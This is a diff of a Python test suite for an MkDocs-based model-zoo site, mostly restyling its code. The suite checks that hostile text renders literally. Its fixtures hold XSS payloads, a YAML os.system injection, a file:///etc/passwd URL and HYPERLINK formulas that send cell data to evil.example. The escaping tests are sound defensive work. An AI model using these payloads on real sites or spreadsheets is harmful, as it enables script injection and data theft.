@@ -21,10 +21,10 @@ import io
 import json
 import re
 import unicodedata
+from collections.abc import Callable
 from functools import lru_cache
 from html.parser import HTMLParser
 from pathlib import Path
-from typing import Callable
 from urllib.parse import urlsplit
 
 import markdown
@@ -51,7 +51,7 @@ BERT_BASE_PUBLISHED = 110_000_000
 #: no page can show. Each stays valid registry and plugin text and must be shown as written.
 TEXTS = {
     "script": "<script>window.__pwned='script'</script>",
-    "attribute-breakout": "\"><img src=x onerror=\"window.__pwned='img'\">",
+    "attribute-breakout": '"><img src=x onerror="window.__pwned=\'img\'">',
     "single-quote-breakout": "' onmouseover='window.__pwned=1' x='",
     "markdown-javascript-link": "[click me](javascript:window.__pwned='link')",
     "html-javascript-link": "<a href=\"javascript:window.__pwned='a'\">click</a>",
@@ -62,10 +62,10 @@ TEXTS = {
     "math": "$$ \\href{javascript:window.__pwned='math'}{x} $$ $y$ \\(z\\) \\[w\\]",
     "html-comment": "--> <!-- /archzoo:html --> <!-- archzoo:html --> <!--",
     "end-tags": "</textarea></title></script></code></td></tr></table></svg></p>",
-    "spreadsheet-formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "spreadsheet-formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "entities": "&lt;b&gt; &amp; &#60;i&#62; &quot; &nbsp; AT&T",
     "attr-list": "x {: onclick=\"window.__pwned='attr'\" } {#id .class}",
-    "mermaid-syntax": "a\"] --> n1[\"b %%{init: {\"securityLevel\": \"loose\"}}%% #quot; #60; \ufb02\u00b0\u00b060\u00b6\u00df",
+    "mermaid-syntax": 'a"] --> n1["b %%{init: {"securityLevel": "loose"}}%% #quot; #60; \ufb02\u00b0\u00b060\u00b6\u00df',
     "markdown-blocks": "# heading\n\n- list\n1. ordered\n\n    indented code\n---\n> quote\n```\nfence",
     "front-matter": "x\n---\ntitle: injected\n...\n: ' \" # &a *b !!python/object:os.system",
     "c1-controls": "a\x80b\x9fc",
@@ -91,8 +91,6 @@ def shown(text: str) -> str:
 
 def squash(text: str) -> str:
     return " ".join(text.split())
-
-
 
 
 # ---- rendering as MkDocs does, and reading the result ---------------------------------------------
@@ -263,7 +261,7 @@ URLS = {
     "file": ("file:///etc/passwd", False),
     "control-before-scheme": ("\x01javascript:window.__pwned=1", True),  # U+FFFD first: a relative path
     "entity-in-scheme": ("java&#115;cript:window.__pwned=1", True),  # not decoded: a relative path
-    "https-attribute-breakout": ("https://example.org/\"><script>window.__pwned=1</script>", True),
+    "https-attribute-breakout": ('https://example.org/"><script>window.__pwned=1</script>', True),
     "http-with-ampersands": ("http://example.org/?a=1&b=2&lt=3", True),
     "scheme-relative": ("//example.org/paper.pdf", True),
     "relative": ("../papers/bert.pdf", True),
@@ -290,7 +288,7 @@ def test_source_url_is_linked_only_when_safe(bert, url_id):
 #: break is prefixed with a single quote).
 CELLS = {
     "equals": ("=1+1", "'=1+1"),
-    "hyperlink": ("=HYPERLINK(\"http://evil.example\",\"click\")", "'=HYPERLINK(\"http://evil.example\",\"click\")"),
+    "hyperlink": ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
     "plus": ("+1", "'+1"),
     "minus": ("-1", "'-1"),
     "at": ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
@@ -312,8 +310,9 @@ def test_csv_numbers_stay_numbers(bert):
     """Negative numbers in numeric columns are numbers, never quoted as formulas."""
     row = next(csv.DictReader(io.StringIO(pages.models_csv([bert]))))
     assert row["difference"] == str(BERT_BASE_PARAMS - BERT_BASE_PUBLISHED) == "-517760"
-    assert float(row["difference_relative"]) == pytest.approx((BERT_BASE_PARAMS - BERT_BASE_PUBLISHED) / BERT_BASE_PUBLISHED,
-                                                                abs=1e-6)
+    assert float(row["difference_relative"]) == pytest.approx(
+        (BERT_BASE_PARAMS - BERT_BASE_PUBLISHED) / BERT_BASE_PUBLISHED, abs=1e-6
+    )
     assert row["difference_relative"].startswith("-0.0047")
 
 
@@ -348,8 +347,12 @@ def test_plugin_text_is_shown_literally(field, text_id):
     plain = views.architecture_view(hostile_plugin.architecture(**{field: PLAIN}))
     assert not hostile.error, hostile.error
     how = ARCH_FIELDS[field]
-    meta = check_page(pages.architecture_page(hostile), pages.architecture_page(plain), _expected(text, how),
-                      in_attributes=how == "attribute")
+    meta = check_page(
+        pages.architecture_page(hostile),
+        pages.architecture_page(plain),
+        _expected(text, how),
+        in_attributes=how == "attribute",
+    )
     if field in ("title", "summary"):
         assert shown(text) in squash(html.unescape(meta[{"title": "title", "summary": "description"}[field]]))
         check_page(pages.home_page([], [hostile]), pages.home_page([], [plain]), text)
@@ -461,8 +464,16 @@ def _built_pages(site: Path) -> list[Path]:
 
 def test_built_pages_hold_no_markup_from_the_registry_or_the_plugin(hostile_site):
     built = {p.relative_to(hostile_site).parent.as_posix() for p in _built_pages(hostile_site)}
-    assert {".", "models", "models/markup-everywhere", "models/spreadsheet-formulas", "models/multiline-markdown",
-            "models/plugin-architecture", "architectures/hostile-text", "architectures/gpt"} <= built
+    assert {
+        ".",
+        "models",
+        "models/markup-everywhere",
+        "models/spreadsheet-formulas",
+        "models/multiline-markdown",
+        "models/plugin-architecture",
+        "architectures/hostile-text",
+        "architectures/gpt",
+    } <= built
     for path in _built_pages(hostile_site):
         page = Html(path.read_text(encoding="utf-8"))
         where = path.relative_to(hostile_site).as_posix()
@@ -500,27 +511,37 @@ def test_built_model_page_shows_the_text_and_keeps_its_metadata(hostile_site):
     assert html.unescape(title) == "markup-everywhere - archzoo model zoo"
     description = html.unescape(re.search(r'<meta name="description" content="([^"]*)"', text).group(1))
     assert description.startswith(entry["title"] + ": 124,439,808 parameters. ")  # GPT2Model, transformers
-    for value in (entry["title"], entry["summary"], *entry["tags"], entry["published"]["source"]["locator"],
-                  entry["published"]["source"]["venue"]):
+    for value in (
+        entry["title"],
+        entry["summary"],
+        *entry["tags"],
+        entry["published"]["source"]["locator"],
+        entry["published"]["source"]["venue"],
+    ):
         assert squash(value) in page.text, value
     source = entry["published"]["source"]["url"]  # https: linked, its quotes and tags kept inside href
     assert [attrs["href"] for tag, attrs in page.elements if tag == "a" and attrs.get("href") == source]
-    article = text[text.index("<article"):text.index("</article>")]
+    article = text[text.index("<article") : text.index("</article>")]
     assert "<h1" in article and 'class="arithmatex"' in article  # the page body is the generated page's
 
 
 def test_built_plugin_page_and_navigation_show_the_plugin_text(hostile_site):
     title = shown(hostile_plugin.DEFAULT_TEXTS["title"])
     text, page = _read(hostile_site, "architectures/hostile-text")
-    assert squash(html.unescape(re.search(r"<title>(.*?)</title>", text, re.S).group(1))) == f"{title} - archzoo model zoo"
-    nav = [squash("".join(Html(a).parts)) for a in
-           re.findall(r'<a href="\./"[^>]*class="md-nav__link[^"]*"[^>]*>(.*?)</a>', text, re.S)]
+    assert (
+        squash(html.unescape(re.search(r"<title>(.*?)</title>", text, re.S).group(1))) == f"{title} - archzoo model zoo"
+    )
+    nav = [
+        squash("".join(Html(a).parts))
+        for a in re.findall(r'<a href="\./"[^>]*class="md-nav__link[^"]*"[^>]*>(.*?)</a>', text, re.S)
+    ]
     assert title in nav  # the navigation's link to this page, under Architectures
     for field in ("summary", "citation", "config_description", "block_name", "symbol_meaning"):
         assert shown(hostile_plugin.DEFAULT_TEXTS[field]) in page.text, field
     assert shown(hostile_plugin.DEFAULT_TEXTS["block_description"]) in page.attribute_text
-    assert any(squash(label).startswith(shown(hostile_plugin.DEFAULT_TEXTS["block_name"]))
-               for label in mermaid_labels(text))
+    assert any(
+        squash(label).startswith(shown(hostile_plugin.DEFAULT_TEXTS["block_name"])) for label in mermaid_labels(text)
+    )
 
 
 def test_built_search_index_holds_escaped_text(hostile_site):
@@ -549,9 +570,13 @@ def test_built_downloads_hold_the_text_as_data(hostile_site):
 # ---- any text at all ------------------------------------------------------------------------------
 
 #: Any characters, lone surrogates included, weighted towards the ASCII punctuation markup is made of.
-ANY_TEXT = st.text(st.one_of(st.characters(codec=None, exclude_categories=()),
-                             st.sampled_from("<>&\"'`*_[](){}#|$\\!=+-.:@%^~\n\r\t\x00\x7f\x80\x9f\u2028")),
-                   max_size=40)
+ANY_TEXT = st.text(
+    st.one_of(
+        st.characters(codec=None, exclude_categories=()),
+        st.sampled_from("<>&\"'`*_[](){}#|$\\!=+-.:@%^~\n\r\t\x00\x7f\x80\x9f\u2028"),
+    ),
+    max_size=40,
+)
 ANY = settings(max_examples=150, deadline=None)
 
 
@@ -562,8 +587,8 @@ def test_any_text_in_a_markdown_table_cell_and_heading_renders_as_itself(text):
     body = render(f"# {pages.text_md(text)}\n\n| a |\n| -- |\n| {pages.text_md(text)} |\n")[1]
     page = Html(body)
     assert [tag for tag, _ in page.elements] == ["h1", "a", "table", "thead", "tr", "th", "tbody", "tr", "td"]
-    heading = Html(body[:body.index("</h1>")]).text
-    cell = Html(body[body.index("<td>"):]).text
+    heading = Html(body[: body.index("</h1>")]).text
+    cell = Html(body[body.index("<td>") :]).text
     assert cell == shown(text) and heading.removesuffix("¶").strip() == shown(text)
 
 
@@ -571,8 +596,10 @@ def test_any_text_in_a_markdown_table_cell_and_heading_renders_as_itself(text):
 @given(ANY_TEXT, ANY_TEXT)
 @example("x\n---\ny: 1", "\x80\ud800")
 def test_any_text_keeps_the_front_matter_readable(title, summary):
-    body, meta = get_data(pages._front_matter(title=title, description=summary,
-                                              archzoo_search={"title": title, "tags": [summary]}) + "\nbody\n")
+    body, meta = get_data(
+        pages._front_matter(title=title, description=summary, archzoo_search={"title": title, "tags": [summary]})
+        + "\nbody\n"
+    )
     assert body.strip() == "body"
     assert squash(html.unescape(meta["title"])) == shown(title)
     assert squash(html.unescape(meta["description"])) == shown(summary)
@@ -582,7 +609,7 @@ def test_any_text_keeps_the_front_matter_readable(title, summary):
 
 @ANY
 @given(ANY_TEXT)
-@example("a\"] --> b[\"c %%{init: {}}%% $$x$$ #quot; `md`")
+@example('a"] --> b["c %%{init: {}}%% $$x$$ #quot; `md`')
 def test_any_block_name_is_one_literal_mermaid_label(name):
     from archzoo.site.diagram import _label
 
